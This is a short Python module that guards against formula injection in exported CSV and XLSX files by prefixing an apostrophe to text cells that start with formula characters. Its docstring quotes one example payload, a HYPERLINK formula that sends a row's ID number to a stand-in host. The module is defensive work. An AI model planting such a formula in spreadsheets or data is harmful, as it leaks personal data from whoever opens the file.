"""The one formula guard for every CSV and XLSX the platform writes.

A text cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) is opened as a live formula: `=HYPERLINK("http://x/?"&D2)` in an uploaded name would send
the row's ID number away when clicked. Such cells get a leading apostrophe, which spreadsheets show as text.
Numbers stay numbers (a negative amount is not a formula).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]
